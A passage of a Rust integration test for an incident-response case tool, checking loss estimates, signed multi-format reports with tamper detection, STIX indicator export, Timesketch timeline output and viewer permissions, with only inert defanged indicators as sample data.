    server.ok(
        lead,
        &[
            "case",
            "service",
            id,
            "web shop",
            "--criticality",
            "critical",
            "--cost-per-hour",
            "900",
            "--currency",
            "EUR",
            "--assets",
            "web01",
        ],
    );
    server.ok(
        lead,
        &[
            "case",
            "loss-set",
            id,
            "response_and_recovery",
            "--min",
            "5000",
            "--likely",
            "8000",
            "--max",
            "15000",
            "--currency",
            "EUR",
            "--note",
            "two responders, three days",
        ],
    );
    server.ok(lead, &["case", "rating", id, "painful"]);
    let loss = server.ok(lead, &["case", "loss", id]);
    assert!(
        loss.contains("overall rating: painful") && loss.contains("response_and_recovery"),
        "{loss}"
    );
    let made = server.ok(lead, &["case", "report", id, "-o", &w("report.html")]);
    assert!(made.contains("signed by the server"), "{made}");
    let html = std::fs::read_to_string(w("report.html")).unwrap();
    for needle in [
        "<section id=\"summary\">",
        "<section id=\"appendix-evidence\">",
        "<svg",
        "web01 webshell",
        "203.0.113.",
        "T1505.003",
        "Acme Corp",
        "RET-2026-17",
        "evidence-inventory.json",
        "custody/E",
        "Response and recovery",
        "Painful",
        "web shop",
    ] {
        assert!(html.contains(needle), "the report lacks {needle}");
    }
    assert!(!html.contains("<script"), "a script in the report");
    let o = fw(&["report", "verify", &w("report.html"), "--key", server_key]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(text(&o).contains("intact"), "{}", text(&o));
    // The same case again: the same bytes but for the signature line.
    server.ok(lead, &["case", "report", id, "-o", &w("again.html")]);
    let body = |p: &str| {
        let t = std::fs::read_to_string(w(p)).unwrap();
        t[..t.trim_end().rfind('\n').unwrap()].to_owned()
    };
    assert_eq!(body("report.html"), body("again.html"));
    // A changed byte, and another key: refused.
    let mut changed = std::fs::read(w("report.html")).unwrap();
    let at = changed.len() / 3;
    changed[at] ^= 0x20;
    std::fs::write(w("changed.html"), changed).unwrap();
    let o = fw(&["report", "verify", &w("changed.html"), "--key", server_key]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert_eq!(fw(&["keygen", "-o", &w("other")]).status.code(), Some(0));
    let o = fw(&[
        "report",
        "verify",
        &w("report.html"),
        "--key",
        &w("other.pub"),
    ]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    // Markdown, JSON, Chinese, PDF.
    server.ok(lead, &["case", "report", id, "-o", &w("report.md")]);
    let md = std::fs::read_to_string(w("report.md")).unwrap();
    assert!(md.starts_with("# Incident summary report"), "{md}");
    server.ok(lead, &["case", "report", id, "-o", &w("report.json")]);
    let json: serde_json::Value = serde_json::from_str(
        std::fs::read_to_string(w("report.json"))
            .unwrap()
            .lines()
            .next()
            .unwrap(),
    )
    .unwrap();
    assert_eq!(json["facts"]["case"]["id"], id);
    assert_eq!(json["facts"]["sla"].as_array().unwrap().len(), 4);
    assert!(
        json["facts"]["sla"]
            .as_array()
            .unwrap()
            .iter()
            .all(|c| c["state"] == "met")
    );
    server.ok(
        lead,
        &[
            "case",
            "report",
            id,
            "--lang",
            "zh",
            "-o",
            &w("report-zh.html"),
        ],
    );
    let zh = std::fs::read_to_string(w("report-zh.html")).unwrap();
    assert!(
        zh.contains("执行摘要") && zh.contains("附录 A"),
        "no Chinese"
    );
    for f in ["report.md", "report.json", "report-zh.html"] {
        let o = fw(&["report", "verify", &w(f), "--key", server_key]);
        assert_eq!(o.status.code(), Some(0), "{f}: {}", text(&o));
    }
    if std::path::Path::new("/usr/bin/chromium").exists() {
        server.ok(lead, &["case", "report", id, "-o", &w("report.pdf")]);
        let o = fw(&["report", "verify", &w("report.pdf"), "--key", server_key]);
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        let out = Command::new("pdftotext")
            .args([&w("report.pdf"), "-"])
            .output()
            .expect("pdftotext (poppler-utils) reads the PDF");
        let pdf_text = String::from_utf8_lossy(&out.stdout);
        for needle in [
            "Incident summary report",
            "web01 webshell",
            "Executive summary",
            "RET-2026-17",
        ] {
            assert!(
                pdf_text.contains(needle),
                "the PDF lacks {needle}: {pdf_text}"
            );
        }
    } else if std::env::var("CI").is_ok_and(|v| v == "true") {
        panic!("chromium is not installed: scripts/test.sh installs it for the PDF report");
    } else {
        eprintln!("SKIPPED (PDF report): /usr/bin/chromium is not installed");
    }
    // Indicators: the table with sightings, an export, one added by hand; the timeline for
    // Timesketch.
    let iocs = server.ok(lead, &["case", "iocs", id]);
    assert!(
        iocs.contains("SEEN ELSEWHERE") && iocs.contains("203.0.113.9"),
        "{iocs}"
    );
    server.ok(
        lead,
        &["case", "iocs", id, "--stix", "-o", &w("iocs.stix.json")],
    );
    let bundle: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(w("iocs.stix.json")).unwrap()).unwrap();
    assert_eq!(bundle["type"], "bundle");
    let added = server.ok(lead, &["case", "ioc", id, "domain", "dropper[.]example"]);
    assert!(added.contains("dropper.example added"), "{added}");
    server.ok(
        lead,
        &["case", "timeline", id, "-o", &w("timesketch.jsonl")],
    );
    let first = std::fs::read_to_string(w("timesketch.jsonl")).unwrap();
    let first: serde_json::Value = serde_json::from_str(first.lines().next().unwrap()).unwrap();
    assert!(first["message"].is_string() && first["timestamp_desc"].is_string());
    // Every version is kept; the customer reads them, and may not make one.
    let kept = server.json(viewer, &["case", "show", id]);
    assert_eq!(kept["id"], id);
    let o = server.as_user(viewer, &["case", "report", id, "-o", &w("viewer.html")]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(!Path::new(&w("viewer.html")).exists());
}
